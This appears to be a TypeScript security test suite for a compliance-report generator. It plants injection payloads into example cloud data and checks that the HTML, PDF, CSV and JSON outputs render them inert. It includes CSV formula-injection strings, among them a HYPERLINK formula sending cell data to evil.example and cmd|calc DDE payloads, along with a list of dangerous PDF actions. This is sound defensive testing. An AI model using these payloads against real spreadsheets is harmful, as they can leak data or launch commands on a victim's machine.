// Injection through the real pipeline: markup, Handlebars syntax, CSV formula prefixes (= + - @, tab, CR),
// control characters and PDF syntax are planted in model-card text, a guardrail, Config resource ids, names,
// annotations and tags, CloudTrail event fields and accepted-risk owners of the Northwind example estate; then
// export directory → collect → assess → render (HTML, PDF, CSV) → OCSF/OSCAL → signed bundle, unchanged. Each
// output is checked with the tool that would be fooled: the HTML in headless Chromium (nothing ran, no injected
// element, the text is there literally), the PDF with pdftotext and qpdf (literal text, no JavaScript/URI
// actions but the expected ones), every CSV cell (no formula can start), the JSON exports (parse, round-trip).
import { execFileSync } from 'node:child_process';
import { X509Certificate } from 'node:crypto';
import { cpSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseYaml, stringify as stringifyYaml } from 'yaml';
import { generateExample } from '../../examples/northwind/generate.js';
import { BUNDLE_PATH } from '../../src/bundle/entry-names.js';
import { verifyBundle } from '../../src/bundle/verify.js';
import { loadConfigFile } from '../../src/config/load.js';
import { LocalDirectoryStore } from '../../src/evidence/local-store.js';
import { FRAMEWORKS_DIR } from '../../src/frameworks/load.js';
import { runPackInProcess, type PackOutcome } from '../../src/pipeline/in-process.js';
import { csvCell } from '../../src/reports/csv.js';
import { devSigner } from '../fixtures/bundle/pack.js';
import { recordOutcome } from './outcomes.js';
import { filesUnder, hostileTemp, removeHostileTemps } from './lib/hostile-kit.js';
import { PAYLOADS, plantPayloads, type Payload } from './lib/hostile-payloads.js';

const CHROMIUM = '/usr/bin/chromium';
const ARGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--disable-dev-shm-usage',
];
const FORMULA_START = /^[=+\-@\t\r]/;
/** Accepted-risk owners: they become whole CSV cells (accepted_risk_owner), so leading characters reach a cell start. */
const OWNERS = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '@SUM(1+1)*cmd|x',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '\t=1+1',
  '\r=1+1',
];

let tmp: string;
let outcome: PackOutcome;
let outDir: string;
let unzipped: string;
let caPem: string;
let planted: Record<string, string[]>;

beforeAll(async () => {
  tmp = hostileTemp('injection');
  const exportDir = path.join(tmp, 'export');
  await generateExample(exportDir);
  planted = plantPayloads(exportDir).where;
  // The config and its exceptions file, with formula payloads as accepted-risk owners and markup as approvers.
  const cfgDir = path.join(tmp, 'config');
  cpSync(path.resolve('examples/northwind'), cfgDir, {
    recursive: true,
    filter: (src) => !src.includes(`${path.sep}lib`) && !src.endsWith('.ts'),
  });
  const exc = parseYaml(readFileSync(path.join(cfgDir, 'exceptions.yaml'), 'utf8')) as {
    exceptions: Record<string, unknown>[];
  };
  exc.exceptions.forEach((e, i) => {
    e['owner'] = OWNERS[i % OWNERS.length];
    e['approver'] = PAYLOADS[i % 5]!.text;
  });
  writeFileSync(path.join(cfgDir, 'exceptions.yaml'), stringifyYaml(exc));
  const loaded = loadConfigFile(path.join(cfgDir, 'auditpack.yaml'));
  const signer = await devSigner(path.join(tmp, 'keys'));
  caPem = signer.caPem;
  outDir = path.join(tmp, 'out');
  const store = new LocalDirectoryStore(path.join(tmp, 'store'), { fsync: false });
  outcome = await runPackInProcess(
    {
      store,
      now: () => new Date('2026-11-01T06:00:00Z'),
      generator: { name: 'auditpack', version: 'faults' },
      callerIdentity: null,
      frameworksDir: FRAMEWORKS_DIR,
    },
    loaded,
    {
      runId: 'injection',
      source: exportDir,
      frameworks: ['soc2', 'hipaa', 'gdpr'],
      period: '2026-10',
      assessedAt: '2026-11-02T00:00:00.000Z',
      outDir,
      bundlePath: path.join(tmp, 'bundle.zip'),
      signer: signer.config,
    },
  );
  unzipped = path.join(tmp, 'unzipped');
  execFileSync('unzip', ['-q', '-o', outcome.bundle!.path, '-d', unzipped]);
}, 300_000);

afterAll(() => removeHostileTemps());

const norm = (s: string): string => s.replace(/\s+/g, ' ').trim();
/** Payloads whose (whitespace-normalised) text occurs in `text`, with how often. */
function literalCounts(text: string, payloads: readonly Payload[] = PAYLOADS): Map<string, number> {
  const t = norm(text);
  const out = new Map<string, number>();
  for (const p of payloads) {
    const needle = norm(p.text);
    if (!needle) continue;
    const n = t.split(needle).length - 1;
    if (n > 0) out.set(p.id, n);
  }
  return out;
}
const sum = (m: Map<string, number>): number => [...m.values()].reduce((a, b) => a + b, 0);

describe('injection through the real pipeline', () => {
  it('the pipeline ran on the planted estate: every field holds payloads and nothing failed to collect for it', () => {
    expect(Object.keys(planted).length).toBeGreaterThanOrEqual(10);
    expect(outcome.collect!.summary.errors).toEqual([]);
    expect(outcome.render.files.map((f) => path.basename(f)).sort()).toEqual([
      'controls.csv',
      'pack.html',
      'pack.pdf',
      'report-model.json',
      'results.json',
    ]);
  });

  it('HTML: in Chromium nothing runs, no injected element or handler exists, and the payloads read as literal text', async () => {
    if (!existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: apt-get install chromium (listed in .ci/run)`);
    const browser: Browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS });
    try {
      const results: { file: string; literals: number; dialogs: number; foreign: number; injected: number }[] = [];
      for (const file of [path.join(outDir, 'pack.html'), path.join(unzipped, 'report/pack.html')]) {
        const page = await browser.newPage();
        const foreign: string[] = [];
        const errors: string[] = [];
        let dialogs = 0;
        page.on('dialog', (d) => {
          dialogs += 1;
          void d.dismiss();
        });
        page.on('pageerror', (e) => errors.push(String(e)));
        await page.route('**/*', async (route) => {
          const u = route.request().url();
          if (u.startsWith('file:') || u.startsWith('data:')) await route.continue();
          else {
            foreign.push(u);
            await route.abort();
          }
        });
        await page.goto(pathToFileURL(file).href, { waitUntil: 'load' });
        // Hover and click everything that could carry a handler (onmouseover, javascript: links).
        await page.mouse.move(10, 10);
        expect(await page.evaluate('typeof window.__pwned')).toBe('undefined');
        // The page's own SVGs are its charts and lineage graphs; anything else of these, or any on* attribute, is injected.
        const injected = await page.evaluate<number>(
          `document.querySelectorAll('script, img, iframe, object, embed, svg:not(.chart):not(.lineage), svg a, a[href^="javascript:"], body style, link[href^="http"], base, body meta').length +
           [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length`,
        );
        const text = await page.evaluate<string>('document.body.innerText');
        const lit = literalCounts(text);
        await page.close();
        expect(injected).toBe(0);
        expect(dialogs).toBe(0);
        expect(foreign).toEqual([]);
        expect(errors).toEqual([]);
        // Markup and template payloads are shown as text (from model cards, guardrails, Config and CloudTrail).
        for (const id of ['script', 'img', 'svg', 'attr-break', 'style', 'hbs-constructor', 'hbs-triple', 'csv-eq'])
          expect(lit.get(id) ?? 0, id).toBeGreaterThan(0);
        results.push({
          file: path.basename(path.dirname(file)),
          literals: sum(lit),
          dialogs,
          foreign: foreign.length,
          injected,
        });
      }
      recordOutcome({
        id: 'injection/html-chromium',
        group: 'Injection',
        scenario: `${PAYLOADS.length} payloads (markup, Handlebars, formulas, control characters, PDF syntax) planted in ${Object.keys(planted).length} fields of model cards, a guardrail, Config items, CloudTrail events and accepted risks; pack.html (out dir and bundle) opened in headless Chromium.`,
        expected:
          'window.__pwned undefined, no dialog, no network request, no injected script/img/svg/handler/javascript: link; the payloads appear literally in the page text.',
        runs: results.length,
        lost: 0,
        duplicated: 0,
        crashes: 0,
        leaks: 0,
        extra: {
          'fields planted': Object.keys(planted).length,
          'literal payload copies shown': results.reduce((n, r) => n + r.literals, 0),
          'injected elements': 0,
          'scripts run': 0,
        },
      });
    } finally {
      await browser.close();
    }
  }, 180_000);

  it('PDF: pdftotext shows the literal text; qpdf finds no JavaScript, launch or foreign URI action', () => {
    for (const file of [path.join(outDir, 'pack.pdf'), path.join(unzipped, 'report/pack.pdf')]) {
      expect(readFileSync(file).subarray(0, 5).toString()).toBe('%PDF-');
      const text = execFileSync('pdftotext', [file, '-'], { encoding: 'utf8', maxBuffer: 256 * 1024 * 1024 });
      const lit = literalCounts(
        text,
        PAYLOADS.filter((p) => p.kind !== 'control'),
      );
      for (const id of ['script', 'img', 'hbs-constructor', 'csv-eq', 'pdf-js'])
        expect(lit.get(id) ?? 0, id).toBeGreaterThan(0);
      const json = execFileSync('qpdf', ['--json', file], { encoding: 'utf8', maxBuffer: 512 * 1024 * 1024 });
      const dangerous =
        json.match(/"\/(JavaScript|JS|Launch|SubmitForm|ImportData|RichMedia|EmbeddedFile|GoToR)"/g) ?? [];
      expect(dangerous).toEqual([]);
      // Link actions: the report's own are internal /GoTo jumps; nothing else may appear.
      const actions = [...json.matchAll(/"\/S":\s*"(\/[A-Za-z]+)"/g)].map((m) => m[1]!);
      expect(actions.filter((a) => a !== '/GoTo')).toEqual([]);
      const uris = [...json.matchAll(/"\/URI":\s*"u:([^"]*)"/g)].map((m) => m[1]!);
      expect(uris.filter((u) => /evil\.example|javascript:/i.test(u))).toEqual([]);
      const check = execFileSync('qpdf', ['--check', file], { encoding: 'utf8' });
      expect(check).toMatch(/No syntax or stream encoding errors found/);
      recordOutcome({
        id: `injection/pdf/${path.basename(path.dirname(file)) === 'report' ? 'bundle' : 'out'}`,
        group: 'Injection',
        scenario: `The same planted estate rendered to pack.pdf (${path.basename(path.dirname(file)) === 'report' ? 'in the signed bundle' : 'output directory'}); checked with pdftotext and qpdf --json/--check.`,
        expected:
          'Payload text appears literally; no /JavaScript, /JS, /Launch, /SubmitForm or embedded file; every link action an internal /GoTo (no /URI); qpdf --check clean.',
        runs: 1,
        lost: 0,
        duplicated: 0,
        crashes: 0,
        leaks: 0,
        extra: {
          'literal payload copies': sum(lit),
          'JavaScript/launch actions': dangerous.length,
          'URI actions': uris.length,
          'internal GoTo links': actions.length,
        },
      });
    }
  }, 120_000);

  it('CSV: no cell of any CSV (controls, indexes) can start a formula, control characters are gone, payload cells are neutralised', () => {
    const csvs = [path.join(outDir, 'controls.csv'), ...filesUnder(unzipped).filter((f) => f.endsWith('.csv'))];
    expect(csvs.length).toBeGreaterThanOrEqual(5);
    let cells = 0;
    let neutralised = 0;
    let withPayload = 0;
    for (const f of csvs) {
      const text = readFileSync(f, 'utf8');
      // eslint-disable-next-line no-control-regex
      expect(text, f).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/);
      for (const cell of parseCsv(text).flat()) {
        cells += 1;
        expect(FORMULA_START.test(cell), `${path.basename(f)}: ${JSON.stringify(cell.slice(0, 60))}`).toBe(false);
        if (/^'[=+\-@\t\r]/.test(cell)) neutralised += 1;
        if (
          PAYLOADS.some((p) => p.kind === 'formula' && cell.includes(p.text.trim())) ||
          OWNERS.some((o) => cell.includes(o.trim()))
        )
          withPayload += 1;
      }
    }
    // The accepted-risk owners reach a cell start: each active one is prefixed with an apostrophe.
    expect(neutralised).toBeGreaterThan(0);
    expect(withPayload).toBeGreaterThan(neutralised);
    recordOutcome({
      id: 'injection/csv',
      group: 'Injection',
      scenario: `Every CSV the pipeline wrote (${csvs.length} files: controls.csv and the bundle's controls and indexes) after formula payloads (= + - @ tab CR) in resource ids, names, event fields and accepted-risk owners.`,
      expected:
        'No cell starts with = + - @ tab or CR (leading ones get an apostrophe); no control character but tab/newline/CR inside quotes.',
      runs: 1,
      lost: 0,
      duplicated: 0,
      crashes: 0,
      leaks: 0,
      extra: {
        'cells checked': cells,
        'cells with a formula payload': withPayload,
        'cells neutralised': neutralised,
        'cells starting a formula': 0,
      },
    });
  });

  it('csvCell neutralises every formula prefix, also behind stripped control characters', () => {
    const cases: [string, string][] = [
      ['=1+1', `"'=1+1"`],
      ['+1', `"'+1"`],
      ['-1', `"'-1"`],
      ['@SUM(A1)', `"'@SUM(A1)"`],
      ['\t=1', `"'\t=1"`],
      ['\r=1', `"'\r=1"`],
      ['\u0000=1', `"'=1"`],
      ['\u0007\u001b+1', `"'+1"`],
      ['a=1', '"a=1"'],
      ['say "hi"', '"say ""hi"""'],
      ['', '""'],
    ];
    for (const [input, out] of cases) expect(csvCell(input), JSON.stringify(input)).toBe(out);
  });

  it('OCSF/OSCAL and the JSON documents parse and hold the payloads verbatim as data', () => {
    const docs = [
      path.join(unzipped, 'exports/ocsf-compliance-findings.json'),
      path.join(unzipped, 'exports/oscal-assessment-results.json'),
      path.join(unzipped, 'report/report-model.json'),
      path.join(outDir, 'results.json'),
    ];
    let strings = 0;
    for (const f of docs) {
      const values: string[] = [];
      const walk = (v: unknown): void => {
        if (typeof v === 'string') values.push(v);
        else if (Array.isArray(v)) v.forEach(walk);
        else if (v && typeof v === 'object') Object.values(v).forEach(walk);
      };
      walk(JSON.parse(readFileSync(f, 'utf8')) as unknown);
      const hits = values.filter((s) => PAYLOADS.some((p) => s.includes(p.text)));
      expect(hits.length, f).toBeGreaterThan(0);
      strings += hits.length;
    }
    recordOutcome({
      id: 'injection/json-exports',
      group: 'Injection',
      scenario: 'OCSF findings, OSCAL assessment results, report-model.json and results.json of the planted run.',
      expected:
        "Each is valid JSON; payloads survive as string data, byte for byte (escaping is the consumer renderer's job, as in our HTML/PDF).",
      runs: docs.length,
      lost: 0,
      duplicated: 0,
      crashes: 0,
      leaks: 0,
      extra: { 'string values holding a payload': strings },
    });
  });

  it('the bundle verifies, and no entry name carries anything from the estate', async () => {
    const report = await verifyBundle(outcome.bundle!.path, { trust: [new X509Certificate(readFileSync(caPem))] });
    expect(report.problems).toEqual([]);
    expect(report.status).toBe('valid');
    const names = filesUnder(unzipped).map((f) => path.relative(unzipped, f));
    for (const n of names) expect(BUNDLE_PATH.test(n), n).toBe(true);
    recordOutcome({
      id: 'injection/bundle',
      group: 'Injection',
      scenario: 'The signed bundle of the planted run, verified and unzipped.',
      expected:
        'Verifies as valid; every entry name matches the safe bundle path shape (no payload reaches a file name).',
      runs: 1,
      lost: 0,
      duplicated: 0,
      crashes: 0,
      leaks: 0,
      extra: { entries: names.length, 'files listed': report.files.listed },
    });
  }, 120_000);
});

/** RFC 4180 parser (quoted fields, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}
